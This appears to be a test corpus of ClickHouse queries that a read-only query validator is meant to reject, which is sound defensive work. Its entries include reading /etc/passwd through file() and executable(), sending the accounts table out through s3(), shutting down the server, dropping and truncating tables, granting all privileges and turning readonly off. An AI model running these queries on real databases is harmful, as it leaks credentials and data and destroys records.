-- readonly_clickhouse: see tests/corpus/__init__.py for the format
-- @@
-- kind: url() reads a remote URL
SELECT * FROM url('http://203.0.113.7/x.csv', CSV, 'a String')
-- @@
-- kind: file() reads a server file
SELECT * FROM file('/etc/passwd', 'LineAsString')
-- @@
-- kind: s3() reads a bucket
SELECT * FROM s3('https://bucket.s3.amazonaws.com/x.csv', 'CSV')
-- @@
-- kind: s3Cluster()
SELECT * FROM s3Cluster('default', 'https://b.s3.amazonaws.com/x.csv')
-- @@
-- kind: remote() reaches another server
SELECT * FROM remote('otherhost:9000', system.users)
-- @@
-- kind: remoteSecure()
SELECT * FROM remoteSecure('otherhost:9440', default.accounts)
-- @@
-- kind: INSERT INTO FUNCTION s3 exfiltrates
INSERT INTO FUNCTION s3('https://b.s3.amazonaws.com/x.csv', 'CSV') SELECT * FROM accounts
-- @@
-- kind: input() reads client data of an INSERT
SELECT * FROM input('a Int32')
-- @@
-- kind: executable() runs a program
SELECT * FROM executable('cat /etc/passwd', TabSeparated, 'x String')
-- @@
-- kind: executablePool()
SELECT * FROM executablePool('x.sh', TabSeparated, 'x String')
-- @@
-- kind: mysql() table function
SELECT * FROM mysql('h:3306', 'db', 't', 'u', 'p')
-- @@
-- kind: postgresql() table function
SELECT * FROM postgresql('h:5432', 'db', 't', 'u', 'p')
-- @@
-- kind: hdfs()
SELECT * FROM hdfs('hdfs://h:9000/x', 'CSV', 'a Int32')
-- @@
-- kind: jdbc()
SELECT * FROM jdbc('jdbc:mysql://h/db', 't')
-- @@
-- kind: odbc()
SELECT * FROM odbc('DSN=x', 'db', 't')
-- @@
-- kind: cluster()
SELECT * FROM cluster('default', system.one)
-- @@
-- kind: azureBlobStorage()
SELECT * FROM azureBlobStorage('DefaultEndpointsProtocol=https', 'c', 'x.csv')
-- @@
-- kind: icebergS3()
SELECT * FROM icebergS3('https://b.s3.amazonaws.com/t')
-- @@
-- kind: deltaLake()
SELECT * FROM deltaLake('https://b.s3.amazonaws.com/t')
-- @@
-- kind: urlCluster()
SELECT * FROM urlCluster('default', 'http://203.0.113.7/x')
-- @@
-- kind: fileCluster()
SELECT * FROM fileCluster('default', 'x.csv')
-- @@
-- kind: url() inside a CTE
WITH x AS (SELECT * FROM url('http://203.0.113.7/x', CSV, 'a String')) SELECT * FROM x
-- @@
-- kind: url() in a subquery
SELECT (SELECT count() FROM url('http://203.0.113.7/x', CSV, 'a String'))
-- @@
-- kind: sleep() holds the connection
SELECT sleep(3)
-- @@
-- kind: sleepEachRow()
SELECT sleepEachRow(1) FROM numbers(10)
-- @@
-- kind: introspection reads the binary
SELECT addressToSymbol(toUInt64(1))
-- @@
-- kind: SYSTEM FLUSH LOGS
SYSTEM FLUSH LOGS
-- @@
-- kind: SYSTEM SHUTDOWN
SYSTEM SHUTDOWN
-- @@
-- kind: SYSTEM RELOAD DICTIONARIES
SYSTEM RELOAD DICTIONARIES
-- @@
-- kind: SYSTEM DROP DNS CACHE
system drop dns cache
-- @@
-- kind: OPTIMIZE rewrites parts
OPTIMIZE TABLE accounts FINAL
-- @@
-- kind: KILL QUERY
KILL QUERY WHERE user = 'other'
-- @@
-- kind: KILL MUTATION
KILL MUTATION WHERE 1
-- @@
-- kind: SETTINGS readonly=0
SELECT 1 SETTINGS readonly = 0
-- @@
-- kind: SETTINGS readonly=0 among others
SELECT * FROM accounts SETTINGS max_threads = 2, readonly = 0
-- @@
-- kind: SETTINGS allow_ddl
SELECT * FROM accounts SETTINGS allow_ddl = 1
-- @@
-- kind: SETTINGS allow_introspection_functions
SELECT 1 SETTINGS allow_introspection_functions = 1
-- @@
-- kind: SET readonly
SET readonly = 0
-- @@
-- kind: ALTER ... DELETE mutation
ALTER TABLE accounts DELETE WHERE 1
-- @@
-- kind: ALTER ... UPDATE mutation
ALTER TABLE accounts UPDATE balance = 0 WHERE 1
-- @@
-- kind: lightweight DELETE
DELETE FROM accounts WHERE 1
-- @@
-- kind: TRUNCATE
TRUNCATE TABLE accounts
-- @@
-- kind: DROP
DROP TABLE accounts
-- @@
-- kind: CREATE ... AS SELECT
CREATE TABLE x ENGINE = Memory AS SELECT 1
-- @@
-- kind: INSERT
INSERT INTO accounts VALUES (1, 'x', 1)
-- @@
-- kind: RENAME
RENAME TABLE accounts TO a2
-- @@
-- kind: EXCHANGE
EXCHANGE TABLES accounts AND a2
-- @@
-- kind: DETACH
DETACH TABLE accounts
-- @@
-- kind: ATTACH
ATTACH TABLE accounts
-- @@
-- kind: GRANT
GRANT ALL ON *.* TO someone
-- @@
-- kind: BACKUP writes a backup
BACKUP TABLE accounts TO Disk('backups', 'x.zip')
-- @@
-- kind: INTO OUTFILE writes a file
SELECT * FROM accounts INTO OUTFILE '/tmp/x.csv'
-- @@
-- kind: two statements
SELECT 1; DROP TABLE accounts
-- @@
-- kind: WATCH a live view
WATCH lv
